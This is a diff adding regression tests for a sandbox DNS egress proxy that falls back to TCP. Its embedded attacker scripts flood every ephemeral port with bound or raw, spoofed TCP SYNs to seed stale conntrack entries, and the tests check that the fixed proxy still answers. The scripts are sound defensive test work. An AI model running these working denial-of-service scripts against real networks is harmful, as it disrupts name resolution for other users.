@@ -2080,6 +2080,151 @@ def test_upstream_queries_work_when_every_ephemeral_port_has_a_stale_sandbox_flo
     assert len(rcodes) == 64 and not failed, (len(rcodes), failed, d.log()[-2000:])
 
 
+# The TCP twin: an upstream that truncates every UDP answer, so egressd asks again over TCP. A
+# SYN of the sandbox's to the upstream's port 53 that never reaches the proxy it is redirected to
+# leaves an entry in SYN_SENT for two minutes; egressd's SYN from that port followed it to the
+# proxy and was dropped, at each retransmission: the query timed out (SERVFAIL). One pass over
+# the ephemeral range took under a second, so every such name failed (found by an attack review).
+
+# uid 65534, no capability: for every ephemeral port P, a TCP socket bound to eth0
+# (SO_BINDTODEVICE, unprivileged since 5.7) and to P connects (non-blocking) to argv[1]:53 and is
+# closed at once; the redirected SYN, bound to eth0, never reaches the proxy on loopback, and a
+# socket closed in SYN_SENT sends nothing. Prints the connect results by errno name.
+SYN_SEED_BOUND = textwrap.dedent(r'''
+    import errno, json, socket, sys
+    upstream = sys.argv[1]
+    fam = socket.AF_INET6 if ":" in upstream else socket.AF_INET
+    print("READY", flush=True)
+    a, b = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
+    res = {}
+    for port in range(a, b + 1):
+        s = socket.socket(fam, socket.SOCK_STREAM)
+        try:
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+            s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", port))
+            s.setblocking(False)
+            k = errno.errorcode.get(s.connect_ex((upstream, 53)), "?")
+        except OSError as ex:
+            k = "x" + errno.errorcode.get(ex.errno, str(ex.errno))
+        finally:
+            s.close()
+        res[k] = res.get(k, 0) + 1
+    print(json.dumps(res))
+''')
+
+# Docker's capabilities (NET_RAW): from the sandbox's address and every ephemeral port, one raw
+# SYN to argv[1]:53 with a wrong TCP checksum: the proxy's kernel drops it, nothing answers, the
+# redirected entry stays SYN_SENT. argv: upstream, the sandbox's address.
+SYN_SEED_RAW = textwrap.dedent(r'''
+    import json, socket, struct, sys
+    upstream, me = sys.argv[1], sys.argv[2]
+    v6 = ":" in upstream
+    fam = socket.AF_INET6 if v6 else socket.AF_INET
+    raw = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    src, dst = socket.inet_pton(fam, me), socket.inet_pton(fam, upstream)
+    print("READY", flush=True)
+    a, b = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
+    sent = errs = 0
+    for port in range(a, b + 1):
+        seg = struct.pack("!HHIIBBHHH", port, 53, 0x1000, 0, 5 << 4, 0x02, 65535, 0xDEAD, 0)
+        if v6:
+            ip = struct.pack("!IHBB", 6 << 28, len(seg), 6, 64) + src + dst
+        else:
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 0, 0x4000, 64, 6, 0, src, dst)
+        try:
+            raw.sendto(ip + seg, (upstream, 0))
+            sent += 1
+        except OSError:
+            errs += 1
+    print(json.dumps({"sent": sent, "errors": errs}))
+''')
+
+
+def truncating_upstream(lab, family: int) -> str:
+    """An upstream in the internet namespace that truncates every UDP answer: its address."""
+    upstream = "198.51.100.98" if family == 4 else "2001:db8:2::98"
+    lab.internet.ip("addr", "add", f"{upstream}/32" if family == 4 else f"{upstream}/128", "dev", "lo",
+                    *([] if family == 4 else ["nodad"]))
+    p = lab.spawn([sys.executable, "-c", SLOW_TCP_UPSTREAM, upstream, WILD_V4, "0"], netns=lab.internet,
+                  stdout=subprocess.PIPE)
+    assert labmod._read_line(p, 10.0, "the truncating upstream") == "READY"
+    return upstream
+
+
+def syn_sent_to_port_53(lab) -> int:
+    return sum(1 for line in lab.sandbox.read_proc("/proc/net/nf_conntrack").splitlines()
+               if " tcp " in line and " SYN_SENT " in line and " dport=53 " in line)
+
+
+@pytest.mark.parametrize("how", ["device-bound", "raw"])
+@pytest.mark.parametrize("family", [4, 6])
+def test_tcp_fallback_is_answered_when_every_port_has_a_stale_sandbox_syn(lab, egressd, family, how):
+    """device-bound: uid 65534, no capability; raw: Docker's capabilities. egressd now draws its
+    TCP try's port before the connect and deletes whatever entry conntrack holds on that flow."""
+    serve(lab)
+    upstream = truncating_upstream(lab, family)
+    d = egressd(policy(upstream))
+    t = tok()
+    first = lab.dns_query(f"h0.{t}.wild.example.org", timeout=5.0)
+    assert (first.rcode, first.addresses) == ("NOERROR", [WILD_V4]), (first.rcode, first.addresses)
+    if how == "raw":
+        me = labmod.SANDBOX_V4 if family == 4 else labmod.SANDBOX_V6
+        seeded = attacker_result(attacker(lab, SYN_SEED_RAW, upstream, me, caps=DOCKER_CAPS), timeout=60)
+    else:
+        seeded = attacker_result(attacker(lab, SYN_SEED_BOUND, upstream, uid=True), timeout=120)
+    stale = syn_sent_to_port_53(lab)
+    assert stale > 20000, (stale, seeded)  # the trap is set: on binaries before, every answer below failed
+    answers = [lab.dns_query(f"h{i}.{t}.wild.example.org", timeout=8.0) for i in range(1, 4)]
+    got = [(r.rcode, r.addresses) for r in answers]
+    assert got == [("NOERROR", [WILD_V4])] * 3, (got, seeded, stale, d.log()[-2500:])
+
+
+# Docker's capabilities (NET_RAW): a SYN from 127.0.0.11:53 to every ephemeral port of 127.0.0.1;
+# each entry's reply direction is the flow of egressd's TCP query to Docker's resolver from that
+# port: egressd's SYN was taken for a reply, denied, reset.
+SYN_SEED_REPLY = textwrap.dedent(r'''
+    import json, socket, struct
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    lo, res = socket.inet_aton("127.0.0.1"), socket.inet_aton("127.0.0.11")
+    def csum(b):
+        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+        while s >> 16:
+            s = (s & 0xFFFF) + (s >> 16)
+        return ~s & 0xFFFF
+    print("READY", flush=True)
+    a, b = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
+    sent = errs = 0
+    for port in range(a, b + 1):
+        seg = struct.pack("!HHIIBBHHH", 53, port, 0x1000, 0, 5 << 4, 0x02, 65535, 0, 0)
+        seg = seg[:16] + struct.pack("!H", csum(res + lo + struct.pack("!BBH", 0, 6, len(seg)) + seg)) + seg[18:]
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 0, 0x4000, 64, 6, 0, res, lo)
+        try:
+            raw.sendto(ip + seg, ("127.0.0.1", 0))
+            sent += 1
+        except OSError:
+            errs += 1
+    print(json.dumps({"sent": sent, "errors": errs}))
+''')
+
+
+def test_tcp_fallback_to_dockers_resolver_is_answered_when_every_port_is_a_stale_entrys_reply(lab, egressd):
+    """Conntrack finds an entry by either direction: deleting the flow egressd is about to open
+    takes the entry whose reply it would be as well."""
+    serve(lab)
+    DockerResolver(lab, truncate="big")
+    d = docker_egressd(lab, egressd)
+    t = tok()
+    first = lab.dns_query(f"big0.{t}.wild.example.org", timeout=5.0)
+    assert (first.rcode, first.addresses) == ("NOERROR", [WILD_V4]), (first.rcode, first.addresses)
+    seeded = attacker_result(attacker(lab, SYN_SEED_REPLY, caps=DOCKER_CAPS), timeout=60)
+    stale = sum(1 for line in lab.sandbox.read_proc("/proc/net/nf_conntrack").splitlines()
+                if " tcp " in line and "src=127.0.0.11 dst=127.0.0.1 sport=53 " in line)
+    assert stale > 20000, (stale, seeded)
+    answers = [lab.dns_query(f"big{i}.{t}.wild.example.org", timeout=8.0) for i in range(1, 4)]
+    got = [(r.rcode, r.addresses) for r in answers]
+    assert got == [("NOERROR", [WILD_V4])] * 3, (got, seeded, stale, d.log()[-2500:])
+
+
 @pytest.mark.parametrize("server", [DNS_V4, DNS_V6])
 def test_an_upstream_port_is_reused_only_after_its_flow_is_forgotten(lab, egressd, server):
     """An answered query's port goes back to the ephemeral range, and its conntrack entry is
